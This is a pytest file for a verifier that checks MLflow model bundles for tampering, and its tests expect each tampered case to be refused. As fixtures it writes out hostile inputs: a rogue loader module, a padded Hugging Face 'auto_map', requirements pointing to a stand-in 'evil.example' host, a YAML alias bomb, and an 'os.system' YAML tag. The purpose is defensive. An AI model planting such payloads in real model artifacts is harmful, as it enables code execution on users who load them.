import json
import shutil
from pathlib import Path

import mlflow
import pytest
import yaml

from data_contracts.errors import CorruptArtifact
from tasks.serving.bundle.assembly import assembled
from tasks.serving.bundle.interfaces import INTERFACES
from tasks.serving.bundle.verification import verify_model


def describe(folder, change):
    path = folder / "MLmodel"
    described = yaml.safe_load(path.read_text())
    change(described["flavors"]["python_function"])
    path.write_text(yaml.safe_dump(described))


def test_what_was_registered_verifies(copy, registered):
    """A check that refuses good models is switched off on its first day."""
    assert verify_model(copy, expected_digest=registered["digest"]) == registered["digest"]


def test_the_description_names_no_folder_of_the_machine_that_registered(downloaded):
    """Whoever may read the registry reads the names of users and projects on other machines."""
    described = yaml.safe_load((downloaded / "MLmodel").read_text())
    pyfunc = described["flavors"]["python_function"]
    assert pyfunc["model_code_path"] == "text_classifier.py"
    assert pyfunc["artifacts"] == {
        "bundle": {"path": "artifacts/bundle", "uri": "artifacts/bundle"}
    }
    del described["artifact_path"]  # the registry's own address of these files
    found = [line for line in yaml.safe_dump(described).splitlines() if ": /" in line]
    assert found == []
    assert (downloaded / pyfunc["model_code_path"]).is_file()


def test_a_loader_module_of_its_own_is_refused_before_it_runs(tmp_path):
    """MLflow imports `loader_module` from `code/` even where pickles are forbidden."""
    marker = tmp_path / "executed"
    folder = tmp_path / "model"
    (folder / "code").mkdir(parents=True)
    code = f"open({str(marker)!r}, 'w').close()\ndef _load_pyfunc(path): raise OSError\n"
    (folder / "code" / "evil_loader.py").write_text(code)
    flavor = {"loader_module": "evil_loader", "code": "code", "python_version": "3.11"}
    (folder / "MLmodel").write_text(yaml.safe_dump({"flavors": {"python_function": flavor}}))
    with pytest.raises(CorruptArtifact, match=r"code/evil_loader\.py"):
        verify_model(folder)
    assert not marker.exists()
    # What happens to whoever does not ask first: this is why the check exists.
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("MLFLOW_ALLOW_PICKLE_DESERIALIZATION", "false")
        with pytest.raises(OSError, match=r"^$"):
            mlflow.pyfunc.load_model(str(folder))
    assert marker.exists()


@pytest.mark.parametrize("padding", [0, 1 << 21], ids=["short", "two MiB"])
def test_remote_code_through_a_configuration_is_refused(copy, padding):
    """`auto_map` makes Hugging Face loaders run a file of the folder, behind spaces as well."""
    bundle = copy / "artifacts" / "bundle"
    path = bundle / "model" / "config.json"
    config = json.loads(path.read_text())
    asking = json.dumps({**config, "auto_map": {"AutoModel": "evil.Model"}})
    path.write_text(" " * padding + asking)
    sign_again(bundle)
    with pytest.raises(CorruptArtifact, match="auto_map"):
        verify_model(copy)


def sign_again(bundle):
    """What an attacker who can write one file can write too: a new list of digests."""

    from tasks.serving.bundle.assembly import script_digest
    from tasks.serving.bundle.bundle import file_digests, model_digest, requirements

    files = file_digests(bundle)
    wanted = requirements(repair_encoding=False)
    script = INTERFACES["text_classification"].script
    digest = model_digest(files, script.name, script_digest(script), wanted)
    (bundle / "digests.json").write_text(json.dumps({"content_digest": digest, "files": files}))


def test_a_replaced_model_with_new_digests_is_refused_by_the_registry_digest(copy, registered):
    """Digests that lie beside the files are replaced with the files."""
    bundle = copy / "artifacts" / "bundle"
    (bundle / "model" / "labels.json").write_text('{"labels": ["a", "b", "c", "d", "e"]}')
    sign_again(bundle)
    verify_model(copy)
    with pytest.raises(CorruptArtifact, match="its registry says"):
        verify_model(copy, expected_digest=registered["digest"])


@pytest.mark.parametrize(
    "name",
    [
        "model/model.safetensors",
        "model/model.int8.onnx",
        "model/labels.json",
        "model/tokenizer.json",
        "MODEL_CARD.md",
        "report.json",
    ],
)
def test_one_flipped_bit_is_refused(copy, name):
    """Silent corruption answers wrongly and looks healthy."""
    path = copy / "artifacts" / "bundle" / name
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)
    with pytest.raises(CorruptArtifact, match=Path(name).name):
        verify_model(copy)


def test_a_changed_script_is_refused(copy):
    """The script is what runs: one line more in it is somebody else's code."""
    script = copy / "text_classifier.py"
    script.write_text(script.read_text() + "\nprint('hello')\n")
    with pytest.raises(CorruptArtifact, match="not the script that this release of Decant ships"):
        verify_model(copy)


def test_every_problem_verifies_with_its_own_script_only(tagger, tmp_path):
    """A script of ours, but another problem's, beside or in place of the registered one."""
    compiled = shutil.ignore_patterns("__pycache__")
    folder = shutil.copytree(tagger.folder, tmp_path / "copy", ignore=compiled)
    verify_model(folder)
    other = INTERFACES["text_classification"].script
    (folder / other.name).write_text(assembled(other), encoding="utf-8")
    with pytest.raises(CorruptArtifact, match="2 scripts of ours"):
        verify_model(folder)
    (folder / "token_classifier.py").unlink()
    with pytest.raises(CorruptArtifact, match="something else than text_classifier"):
        verify_model(folder)
    describe(folder, lambda flavor: flavor.update(model_code_path=other.name))
    with pytest.raises(CorruptArtifact, match="content digest"):
        verify_model(folder)


@pytest.mark.parametrize(
    "name", ["python_model.pkl", "code/x.py", "artifacts/bundle/evil.py", "artifacts/bundle/w.bin"]
)
def test_files_that_no_model_of_ours_has_are_refused(copy, name):
    """A pickle beside the weights waits for the one loader that reads it."""
    (copy / name).parent.mkdir(parents=True, exist_ok=True)
    (copy / name).write_bytes(b"x")
    with pytest.raises(CorruptArtifact, match="which no model of ours does"):
        verify_model(copy)


def test_links_out_of_the_folder_are_refused(copy, tmp_path):
    """A link makes a verified name read an unverified file."""
    card = copy / "artifacts" / "bundle" / "MODEL_CARD.md"
    shutil.move(card, tmp_path / "card.md")
    card.symlink_to(tmp_path / "card.md")
    with pytest.raises(CorruptArtifact, match="link"):
        verify_model(copy)


@pytest.mark.parametrize(
    "change",
    [
        {"loader_module": "mlflow.sklearn"},
        {"python_model": "python_model.pkl"},
        {"model_code_path": "other.py"},
        {"code": "code"},
        {"artifacts": {"bundle": {"path": "../elsewhere"}}},
    ],
)
def test_a_description_that_loads_something_else_is_refused(copy, change):
    """MLmodel decides what is run; its files may all be untouched."""
    describe(copy, lambda flavor: flavor.update(change))
    with pytest.raises(CorruptArtifact, match="MLmodel"):
        verify_model(copy)


@pytest.mark.parametrize(
    "line", ["--index-url https://evil.example", "evil @ https://evil.example/x.whl", "./local"]
)
def test_requirements_from_elsewhere_are_refused(copy, line):
    """Installing the listed requirements is running their set-up code."""
    path = copy / "requirements.txt"
    path.write_text(path.read_text() + "\n" + line)
    with pytest.raises(CorruptArtifact, match="requirements"):
        verify_model(copy)


@pytest.mark.parametrize("name", ["MLmodel", "conda.yaml"])
@pytest.mark.parametrize(
    "text",
    [
        # Nine levels of nine aliases each: 400 million strings out of 400 characters.
        "l0: &l0 [a]\n"
        + "".join(f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9)}]\n" for n in range(1, 10))
        + "dependencies: *l9\n",
        "dependencies: &itself [*itself]",
        "[" * 5000,
        "- a list",
        "text",
        "dependencies: 2026-13-01",
        "dependencies: !!bool maybe",
        "? [a, list]\n: as a key",
    ],
    ids=["bomb", "cycle", "deep", "list", "text", "date", "tag", "key"],
)
@pytest.mark.timeout(30)
def test_yaml_that_is_no_plain_mapping_is_refused(copy, name, text):
    """A kilobyte that fills the memory of whoever checks it, or ends the check in a traceback."""
    (copy / name).write_text(text)
    with pytest.raises(CorruptArtifact, match=f"{name} is (not plain YAML|no mapping)"):
        verify_model(copy)


@pytest.mark.parametrize(
    "text",
    [
        "flavors: text",
        "flavors: {python_function: text}",
        "flavors: {python_function: {1: a, b: c}}",
        *(
            "flavors: {python_function: {loader_module: mlflow.pyfunc.loaders.code_model, "
            f"model_code_path: text_classifier.py, artifacts: {artifacts}}}}}"
            for artifacts in ("text", "{bundle: text}")
        ),
    ],
)
def test_a_description_of_another_form_is_refused(copy, text):
    """An AttributeError, told as a defect of ours, of a model that must not be loaded."""
    (copy / "MLmodel").write_text(text)
    with pytest.raises(CorruptArtifact, match="MLmodel"):
        verify_model(copy)


@pytest.mark.parametrize("text", ["[]", "{}", '{"files": 3}', '{"files": {"a": []}}', "[" * 99_999])
def test_digests_of_another_form_are_refused(copy, text):
    """As above, for the file beside the weights."""
    (copy / "artifacts" / "bundle" / "digests.json").write_text(text)
    with pytest.raises(CorruptArtifact, match=r"digests\.json"):
        verify_model(copy)


def test_yaml_that_builds_objects_is_refused(copy):
    """`!!python/object` runs code in loaders that are not safe."""
    (copy / "MLmodel").write_text("!!python/object/apply:os.system ['true']")
    with pytest.raises(CorruptArtifact, match="not plain YAML"):
        verify_model(copy)
